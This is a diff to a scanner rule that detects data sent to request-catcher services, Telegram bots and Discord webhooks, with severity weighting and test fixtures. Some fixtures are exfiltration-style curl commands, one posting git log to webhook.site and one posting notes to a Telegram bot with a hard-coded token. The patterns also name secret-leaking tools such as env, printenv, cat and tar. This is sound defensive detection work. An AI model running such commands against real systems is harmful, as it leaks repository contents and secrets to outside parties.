@@ -39,10 +39,34 @@ const ownFile = /[=@<]\s?["']?(?:\/path\/to\/|path\/to\/|<[a-z _-]{2,30}>)/i;
 const named =
   /\b(?:url|webhook_?url|callback_?url)\\?["']?\s{0,3}[:=]\s{0,3}\\?["']?https?:\/\/[\w.-]{0,80}$/i;
 
-function byUse({ match, scope, severity }: RowHit): Severity | null {
+/** A bot, or a webhook, whose key the program is given: `bot$TOKEN/`, `bot{token}/`, `webhooks/<id>`. */
+const givenKey =
+  /^(?:api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks\/)(?:\\?\$\{?(\w{1,60})|["'`]?\s?\+\s?(\w{1,60})|\{(\w{1,60})|%s|<|YOUR|\.\.\.)/i;
+/** A key of a bot as its author may write it into a program, in whatever variable. */
+const writtenKey = /\b\d{8,10}:[\w-]{30,40}/;
+/** What is sent is a file or what a command prints, and no message. */
+const sentFile =
+  /send(?:Document|Photo|Audio|Video|MediaGroup)|-F\s|--form|=@|\bfiles\s?=|\b(?:cat|env|printenv|base64|tar)\s/i;
+
+/** Whether the place is an account of the reader's: the key is a variable that the file gives no value. */
+function isReaders(place: string, { region }: RowHit): boolean {
+  const match = givenKey.exec(place);
+  if (match === null || writtenKey.test(region.text)) return false;
+  const name = match[1] ?? match[2] ?? match[3];
+  if (name === undefined) return true;
+  // A literal of its own, or a text that is put together or decoded, is a key that the author chose.
+  const written = new RegExp(
+    `(?<![\\w$])${name}\\s{0,3}=\\s{0,3}(?:["'][^"'$\\s{<]{16,200}["']|[^\\n]{0,80}(?:b64|base64|atob|fromCharCode|fromhex|reverse|join\\())`,
+  );
+  return !written.test(region.text);
+}
+
+function byUse(hit: RowHit): Severity | null {
+  const { match, scope, severity } = hit;
   const at = Math.max(0, scope.indexOf(match[0]));
   const place = scope.slice(at, at + 200).replace(/^https?:\/\//i, '');
   if (managed.test(place)) return null;
+  if (isReaders(place, hit)) return sentFile.test(scope) ? 'medium' : 'low';
   if (severity !== 'high') return severity;
   if (leftOut.test(place) || ownFile.test(scope) || named.test(scope.slice(0, at))) return 'medium';
   return severity;
@@ -85,8 +109,19 @@ export const requestCatchers: PatternRule = {
       unless: [pattern(word(oneOf(...ordinaryCatcherUses, seq('notif', letters(2, 10)), stem('alert', 4))))],
       severity: 'high',
       weigh: byUse,
-      catches: [inFile('scripts/a.sh', 'curl -d "$(git log)" https://webhook.site/abc')],
+      catches: [
+        inFile('scripts/a.sh', 'curl -d "$(git log)" https://webhook.site/abc'),
+        inFile(
+          'scripts/a.sh',
+          'K="7123456789:AAExampleExampleExampleExampleExampl"',
+          'curl -d "chat_id=1" -d "text=$NOTES" "https://api.telegram.org/bot$K/sendMessage"',
+        ),
+      ],
       spares: [
+        inFile(
+          'scripts/notify.sh',
+          'curl -s "https://api.telegram.org/bot${BOT_TOKEN}/sendMessage" -d chat_id="$CHAT" -d text="$1"',
+        ),
         'Post it to the team page.',
         fenced('sh', 'curl -X POST https://api.telegram.org/bot$BOT/setMyCommands -d "$MENU"'),
       ],
